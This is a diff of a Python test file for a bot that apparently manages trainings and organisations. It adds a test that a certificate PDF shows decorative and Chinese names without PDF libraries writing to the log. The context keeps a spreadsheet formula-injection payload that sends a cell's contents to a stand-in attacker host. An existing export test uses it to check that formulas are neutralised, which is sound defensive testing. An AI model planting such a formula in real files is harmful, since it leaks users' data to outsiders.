@@ -5,14 +5,19 @@ decorative letters or in Chinese, and neither fpdf2 nor fontTools writes to the 
 from __future__ import annotations
 
 import io
-from datetime import date, datetime
+import logging
+from datetime import date, datetime, timedelta
 from zoneinfo import ZoneInfo
 
 from openpyxl import load_workbook
+from pypdf import PdfReader
+from sqlalchemy import select
 
 from bot.documents.workbook import Sheet, workbook
 from bot.models.organizations import Organization, OrganizationKind, VerificationStatus
+from bot.models.people import User
 from bot.models.projects import Project
+from bot.models.trainings import Enrollment, EnrollmentState, TrainingSession
 from tests.flows import consented
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Ver")'
@@ -59,3 +64,24 @@ async def test_staff_export_an_organization_and_a_project_named_like_formulas_as
     assert all(types and set(types) == {"s"} for types in typed.values()), typed
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]      # no formula anywhere in the file
     assert any(isinstance(cell.value, datetime) for cell in cells)                # dates are still dates
+
+
+async def test_a_certificate_shows_a_decorative_or_chinese_name_and_the_pdf_libraries_stay_out_of_the_log(bot, caplog):
+    caplog.set_level(logging.INFO)                                     # LOG_LEVEL's default
+    maria = bot.user(first_name="𝓜𝓪𝓻í𝓪", last_name="王芳", language_code="es")
+    await consented(maria)
+    now = bot.clock.now()
+    async with await bot.session() as session:
+        user_id = await session.scalar(select(User.id).where(User.telegram_id == maria.id))
+        training = TrainingSession(topic="leadership", title="Liderazgo 𝐜𝐨𝐦𝐮𝐧𝐢𝐭𝐚𝐫𝐢𝐨 🌱", starts_at=now - timedelta(days=2),
+                                   ends_at=now - timedelta(days=2, hours=-2), venue="Local comunal", capacity=20, created_at=now)
+        session.add(training)
+        await session.flush()
+        session.add(Enrollment(session_id=training.id, user_id=user_id, state=EnrollmentState.ATTENDED, created_at=now,
+                               attended_at=now - timedelta(days=2)))
+    await maria.taps_data(f"tr:cert:{training.id}")
+    text = PdfReader(io.BytesIO(maria.documents[-1].content)).pages[0].extract_text()
+    assert "María WangFang" in text and "Liderazgo comunitario" in text
+    libraries = [f"{r.levelname} {r.name}" for r in caplog.records if r.name.split(".")[0] in ("fpdf", "fontTools")]
+    assert libraries == []
+    assert "王" not in caplog.text and "𝓜" not in caplog.text
